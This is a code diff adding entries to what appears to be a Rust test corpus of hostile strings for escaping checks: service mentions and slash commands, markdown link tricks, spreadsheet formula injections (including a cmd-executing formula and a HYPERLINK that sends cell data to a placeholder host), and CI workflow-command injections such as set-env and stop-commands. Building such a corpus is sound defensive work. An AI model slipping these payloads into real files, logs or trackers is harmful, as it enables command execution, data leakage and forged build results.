@@ -2,8 +2,9 @@
 
 /// Every text, none of them twice and none of them blank.
 pub(crate) fn texts() -> Vec<String> {
-    let by_hand =
-        [ELEMENTS, HANDLERS, BREAKOUTS, MUTATIONS, ATTRIBUTES, TEMPLATES, MARKDOWN, SHEETS, COMMANDS, SCRIPTS];
+    let by_hand = [
+        ELEMENTS, HANDLERS, BREAKOUTS, MUTATIONS, ATTRIBUTES, TEMPLATES, MARKDOWN, SERVICES, SHEETS, COMMANDS, SCRIPTS,
+    ];
     let mut texts: Vec<String> = by_hand.concat().into_iter().map(str::to_owned).collect();
     texts.extend(addresses());
     texts.extend(characters());
@@ -135,6 +136,31 @@ const MARKDOWN: &[&str] = &[
     "**bold** _line_ ~~gone~~ `code` # 1. - > + * \\",
 ];
 
+/// What a service would make a link, a reference, a message or a command of.
+const SERVICES: &[&str] = &[
+    "@canary and @canary/team, canary@a.example",
+    "#1, GH-1, gl-2, canary/canary#3, canary#4, canary/canary@0123456789abcdef0123456789abcdef01234567",
+    "0123456789abcdef0123456789abcdef01234567 abcdef0 1234567...89abcde",
+    "https://canary.example/x http://canary.example ftp://canary.example www.canary.example WWW.canary.example",
+    "!1 &2 $3 %4 %\"five\" ~six ~\"seven\" ^alert#8 *iteration:9 [vulnerability:10] canary/canary!11",
+    "/close",
+    "/assign @canary",
+    "x\n/approve",
+    "[x](1) \\[x](2) \\\\[x](https://canary.example) [x\\](3) [a [b](4) c](5)",
+    "[x](sarif:/runs/0/results/0) {0} {{1}}",
+    "![x][1] [^1] <https://canary.example> <canary@a.example>",
+    "[1]: https://canary.example",
+    "- [ ] x",
+    "1. x",
+    "***x*** __x__ ~~x~~ `x` ``x`` ```x```",
+    "x\n---",
+    "===",
+    "    x",
+    "> [!CAUTION]\n> x",
+    "x\\",
+    "|x|y|",
+];
+
 /// What a spreadsheet would run, and what would break the file.
 const SHEETS: &[&str] = &[
     "=1+1",
@@ -158,6 +184,24 @@ const SHEETS: &[&str] = &[
     ";=1+1",
     "x\r\n=1+1",
     "x\",=1+1,\"",
+    "Drill;=1+41",
+    "Drill;=1+41;",
+    "Drill,=1+41,Drill",
+    "Drill\t=1+41\tDrill",
+    "Drill|=1+41",
+    "Drill:=1+41",
+    "Drill =1+41",
+    "Drill\n=1+41\n",
+    "Drill; \"=1+41",
+    "Drill;\"=1+41\";",
+    "Drill,\"=1+41\",",
+    "Drill;\"\"=1+41;\"\"",
+    "Drill;=cmd|'/c canary'!A1;",
+    "Drill,;\t =1+41",
+    "Drill;'=1+41",
+    "Drill =\u{a0}1+41",
+    "Drill = 1+41 =",
+    "a\";=1+41;\"b",
     "=cmd|'/c canary'!A1",
     "=HYPERLINK(\"https://canary.example/?\"&A1,\"x\")",
     "=WEBSERVICE(\"https://canary.example/\")",
@@ -179,6 +223,14 @@ const COMMANDS: &[&str] = &[
     "x\r::notice::canary",
     "x\u{85}::error::canary\u{b}::error::canary\u{c}::error::canary",
     "##[error]canary\n##vso[task.setvariable variable=canary]x",
+    "x ##[command]canary ##[add-mask]x ###[group]canary",
+    "x ##teamcity[buildStop comment='canary'] ##vso[task.complete result=Succeeded;]",
+    "::stop-commands::canary",
+    "  \u{a0}\u{3000}::add-mask::canary",
+    "x\n \t::set-env name=canary::x",
+    "x\u{2028}::error::canary\u{2029}::error::canary",
+    ":::error::canary",
+    "section_start:0:canary[collapsed=true]\r\u{1b}[0Kcanary",
 ];
 
 /// What would end a text of a script or a list of JSON.
